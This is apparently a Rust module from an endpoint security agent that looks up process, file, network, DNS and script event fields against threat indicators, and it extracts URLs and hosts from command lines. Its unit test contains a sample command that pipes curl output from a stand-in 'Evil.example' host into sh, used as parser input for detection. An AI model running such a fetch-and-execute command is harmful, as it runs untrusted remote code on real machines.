//! Looking up what an event tells among the indicators.
//!
//! Each type of event has its fields that are looked up: what was done, and not who did
//! it. Else a program that once matched would match again with each of its acts.

use std::net::IpAddr;

use event_model::{EventType, Field, FieldSource, Severity, ValueRef};
use indicators::{IndicatorMatch, IndicatorValue, Observable, Probes};
use protocol::enrollment::{sha256, to_hex};
use rule_engine::Phase;

use crate::indicator_book::ActiveIndicators;

/// URLs that are looked up of one text, and how long a text is searched for them.
const MAX_URLS: usize = 16;
const MAX_SEARCHED: usize = 64 << 10;

/// Longer values stand in rule ids as a hash, and are cut where they are shown.
const MAX_SHOWN: usize = 128;

/// What is looked up of a field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Holds {
    Md5,
    Sha1,
    Sha256,
    Address,
    Domain,
    Path,
    /// Any text in which URLs may stand.
    Urls,
    /// Answers to a query: addresses and names.
    Answers,
}

use Holds::{Address, Answers, Domain, Md5, Path, Sha1, Sha256, Urls};

const OF_START: &[(Field, Holds)] = &[
    (Field::ProcessExecutable, Path),
    (Field::ProcessCommandLine, Urls),
    (Field::ProcessMd5, Md5),
    (Field::ProcessSha1, Sha1),
    (Field::ProcessSha256, Sha256),
];
const OF_FILE: &[(Field, Holds)] = &[
    (Field::FilePath, Path),
    (Field::FileTargetPath, Path),
    (Field::FileMd5, Md5),
    (Field::FileSha1, Sha1),
    (Field::FileSha256, Sha256),
];
/// Its path was looked up when it was made.
const OF_SCAN: &[(Field, Holds)] =
    &[(Field::FileMd5, Md5), (Field::FileSha1, Sha1), (Field::FileSha256, Sha256)];
const OF_CONNECTION: &[(Field, Holds)] = &[
    (Field::SourceAddress, Address),
    (Field::DestinationAddress, Address),
    (Field::SourceDomain, Domain),
    (Field::DestinationDomain, Domain),
];
const OF_QUERY: &[(Field, Holds)] = &[(Field::DnsName, Domain), (Field::DnsAnswers, Answers)];
const OF_SCRIPT: &[(Field, Holds)] =
    &[(Field::ScriptPath, Path), (Field::ScriptSha256, Sha256), (Field::ScriptText, Urls)];
const OF_LIBRARY: &[(Field, Holds)] = &[(Field::LibraryPath, Path), (Field::LibrarySha256, Sha256)];
const OF_TASK: &[(Field, Holds)] =
    &[(Field::FilePath, Path), (Field::TaskCommand, Urls), (Field::ServiceCommand, Urls)];

/// What is looked up of events of a type.
fn fields_of(event_type: EventType) -> &'static [(Field, Holds)] {
    match event_type {
        EventType::ProcessStart => OF_START,
        EventType::FileCreate
        | EventType::FileModify
        | EventType::FileRename
        | EventType::FileLink
        | EventType::RawAccessRead
        | EventType::ModuleLoad
        | EventType::Persistence => OF_FILE,
        EventType::FileScan => OF_SCAN,
        // Its end would match as its beginning did.
        EventType::NetworkConnect | EventType::NetworkAccept => OF_CONNECTION,
        EventType::UserLogon | EventType::UserLogonFailed => OF_CONNECTION,
        EventType::DnsQuery => OF_QUERY,
        EventType::ScriptContent => OF_SCRIPT,
        EventType::ImageLoad => OF_LIBRARY,
        EventType::ScheduledTask | EventType::Service => OF_TASK,
        _ => &[],
    }
}

/// An indicator that an event matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IndicatorHit {
    /// The indicator.
    pub found: IndicatorMatch,
    /// Where it was seen, as `field = value`, each of them.
    pub seen: Vec<String>,
}

impl IndicatorHit {
    /// Id of the rule in its detection: the same for the same indicator, whatever list has it.
    pub fn rule_id(&self) -> String {
        let (kind, value) = (kind_of(&self.found.value), self.found.value.to_string());
        if value.len() <= MAX_SHOWN {
            return format!("indicator.{kind}.{value}");
        }
        format!("indicator.{kind}.{}", to_hex(&sha256(value.as_bytes())))
    }

    /// Name of the rule in its detection.
    pub fn name(&self) -> String {
        format!("Indicator: {} {}", kind_of(&self.found.value), shown(&self.found.value.to_string()))
    }

    /// What is known of the indicator, in one line.
    pub fn description(&self) -> String {
        let IndicatorMatch { source, confidence, description, expires, .. } = &self.found;
        let end = expires.map(|at| format!(", expires {at}")).unwrap_or_default();
        let about = if description.is_empty() { String::new() } else { format!("{description} ") };
        format!("{about}(source {source}, confidence {confidence}{end})")
    }

    /// Its severity.
    pub fn severity(&self) -> Severity {
        self.found.severity
    }

    /// What matched what, one line for each place.
    pub fn matched(&self) -> Vec<String> {
        let IndicatorMatch { value, source, confidence, .. } = &self.found;
        let (kind, value) = (kind_of(value), value.to_string());
        let line = |seen: &String| {
            format!("{seen} (indicator {kind} {}, source {source}, confidence {confidence})", shown(&value))
        };
        self.seen.iter().map(line).collect()
    }
}

fn kind_of(value: &IndicatorValue) -> &'static str {
    match value {
        IndicatorValue::Md5(_) => "md5",
        IndicatorValue::Sha1(_) => "sha1",
        IndicatorValue::Sha256(_) => "sha256",
        IndicatorValue::Network { .. } => "ip",
        IndicatorValue::Domain(_) => "domain",
        IndicatorValue::Url(_) => "url",
        IndicatorValue::Path(_) => "path",
    }
}

fn shown(text: &str) -> String {
    let mut short: String = text.chars().take(MAX_SHOWN).collect();
    if short.len() < text.len() {
        short.push('…');
    }
    short
}

impl ActiveIndicators {
    /// The indicators that an event matches. Nothing is allocated where there is none,
    /// and nothing done where there are no indicators.
    pub fn look_up(&self, event: &impl FieldSource, phase: Phase) -> Vec<IndicatorHit> {
        let mut hits = Vec::new();
        let fields = fields_of(event.event_type());
        let Some(table) = self.table.as_ref().filter(|_| !fields.is_empty()) else { return hits };
        // As of the event: what is read late is judged by the time at which it happened.
        let now = jiff::Timestamp::from_nanosecond(event.observed_at().as_nanos().into());
        let mut looking = Looking {
            active: self,
            now: now.unwrap_or(jiff::Timestamp::MAX),
            hits: &mut hits,
            probes: Some((table.probes(), 0)),
        };
        let due = |holds: Holds| match phase {
            Phase::All => true,
            Phase::HashOnly => matches!(holds, Md5 | Sha1 | Sha256),
            Phase::WithoutHash => !matches!(holds, Md5 | Sha1 | Sha256),
        };
        let fields = || (0_u8..).zip(fields).filter(|(_, (_, holds))| due(*holds));
        // Of most events no field can match; which do is asked for all of them at once.
        for (place, (field, holds)) in fields() {
            if let Some((_, at)) = &mut looking.probes {
                *at = place;
            }
            looking.value(event, *field, *holds);
        }
        let maybe = looking.probes.take().map_or(0, |(probes, _)| probes.maybe());
        for (_, (field, holds)) in fields().filter(|(place, _)| (maybe >> place) & 1 == 1) {
            looking.value(event, *field, *holds);
        }
        hits
    }

    /// Whether a file with these hashes is an indicator at this moment.
    pub fn knows_hash(&self, md5: &[u8; 16], sha1: &[u8; 20], sha256: &[u8; 32]) -> bool {
        let Some(table) = self.table.as_ref().filter(|_| self.has_hashes()) else { return false };
        let now = jiff::Timestamp::now();
        let seen = [Observable::Md5(md5), Observable::Sha1(sha1), Observable::Sha256(sha256)];
        let mut is_known = false;
        if let Err(error) = table.lookup_many(&seen, now, |_, _| is_known = true) {
            self.failed(&error);
        }
        is_known
    }
}

/// One event's look-ups.
struct Looking<'a> {
    active: &'a ActiveIndicators,
    now: jiff::Timestamp,
    hits: &'a mut Vec<IndicatorHit>,
    /// While it is only asked which fields can match: who asks, and the place of the field.
    probes: Option<(Probes<'a>, u8)>,
}

impl Looking<'_> {
    fn value(&mut self, event: &impl FieldSource, field: Field, holds: Holds) {
        match event.value(field) {
            Some(ValueRef::Text(text)) => self.text(field, holds, &text),
            Some(ValueRef::TextList(items)) => {
                items.iter().take(MAX_URLS * 4).for_each(|item| self.text(field, holds, item));
            }
            _ => {}
        }
    }

    #[allow(clippy::redundant_closure, reason = "a variant's function is of one lifetime, these are of any")]
    fn text(&mut self, field: Field, holds: Holds, text: &str) {
        match holds {
            Md5 => self.hash(field, text, |hash| Observable::Md5(hash)),
            Sha1 => self.hash(field, text, |hash| Observable::Sha1(hash)),
            Sha256 => self.hash(field, text, |hash| Observable::Sha256(hash)),
            Address => {
                self.address(field, text);
            }
            Domain => self.one(field, text, Observable::Domain(text)),
            Path => self.one(field, text, Observable::Path(text)),
            Urls => urls(text).take(MAX_URLS).for_each(|url| self.url(field, url)),
            Answers if self.address(field, text) => {}
            Answers => self.one(field, text, Observable::Domain(text)),
        }
    }

    fn hash<const LENGTH: usize>(
        &mut self,
        field: Field,
        hex: &str,
        as_seen: impl for<'h> Fn(&'h [u8; LENGTH]) -> Observable<'h>,
    ) {
        if let Some(bytes) = unhex::<LENGTH>(hex) {
            self.one(field, hex, as_seen(&bytes));
        }
    }

    /// True if the text is an address.
    fn address(&mut self, field: Field, text: &str) -> bool {
        let address = text.parse::<IpAddr>();
        address.is_ok_and(|address| {
            self.one(field, text, Observable::Ip(address));
            true
        })
    }

    /// The URL itself, else its host.
    fn url(&mut self, field: Field, url: &str) {
        let before = self.hits.len();
        self.one(field, url, Observable::Url(url));
        if self.hits.len() > before {
            return;
        }
        let host = host_of(url);
        match host.parse::<IpAddr>() {
            Ok(address) => self.one(field, url, Observable::Ip(address)),
            Err(_) => self.one(field, url, Observable::Domain(host)),
        }
    }

    fn one(&mut self, field: Field, text: &str, seen: Observable<'_>) {
        if let Some((probes, place)) = &mut self.probes {
            probes.ask(*place, seen);
            return;
        }
        let Some(table) = &self.active.table else { return };
        match table.lookup(seen, self.now) {
            Ok(None) => {}
            Ok(Some(found)) => {
                let place = format!("{} = {}", field.spec().ecs, shown(text));
                // One detection for each indicator, wherever the event has it.
                match self.hits.iter_mut().find(|hit| hit.found.value == found.value) {
                    Some(hit) => hit.seen.push(place),
                    None => self.hits.push(IndicatorHit { found, seen: vec![place] }),
                }
            }
            Err(error) => self.active.failed(&error),
        }
    }
}

/// The URLs in a text, up to where a shell, a quote or a space ends them.
fn urls(text: &str) -> impl Iterator<Item = &str> {
    let text = &text[..text.floor_char_boundary(MAX_SEARCHED)];
    text.match_indices("://").filter_map(move |(at, mark)| {
        let is_of_scheme = |byte: &u8| byte.is_ascii_alphanumeric();
        let before = text.as_bytes()[..at].iter().rev().take_while(|byte| is_of_scheme(byte)).count();
        let ends = |c: char| {
            c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>' | '|' | ';' | ')')
        };
        let rest = &text[at + mark.len()..];
        let length = rest.find(ends).unwrap_or(rest.len());
        (before > 0 && length > 0).then(|| &text[at - before..at + mark.len() + length])
    })
}

/// The host of a URL, without user and port.
fn host_of(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    if let Some(inner) = host.strip_prefix('[') {
        return inner.split_once(']').map_or(inner, |(address, _)| address);
    }
    host.split_once(':').map_or(host, |(name, _)| name)
}

fn unhex<const LENGTH: usize>(text: &str) -> Option<[u8; LENGTH]> {
    let digit = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
    let mut bytes = [0; LENGTH];
    let (pairs, rest) = text.as_bytes().as_chunks::<2>();
    if pairs.len() != LENGTH || !rest.is_empty() {
        return None;
    }
    for (byte, [high, low]) in bytes.iter_mut().zip(pairs) {
        *byte = digit(*high)? << 4 | digit(*low)?;
    }
    Some(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_and_their_hosts_are_found_in_command_lines() {
        let text =
            r#"sh -c "curl -s http://u:p@Evil.example:8080/a?b=1|sh; wget 'ftp://[2001:db8::1]/x'" :// x://"#;
        let found: Vec<&str> = urls(text).collect();
        assert_eq!(found, ["http://u:p@Evil.example:8080/a?b=1", "ftp://[2001:db8::1]/x"]);
        let hosts: Vec<&str> = found.iter().map(|url| host_of(url)).collect();
        assert_eq!(hosts, ["Evil.example", "2001:db8::1"]);
        assert_eq!(urls(&"a://b ".repeat(100_000)).count(), MAX_SEARCHED / 6);
    }
}
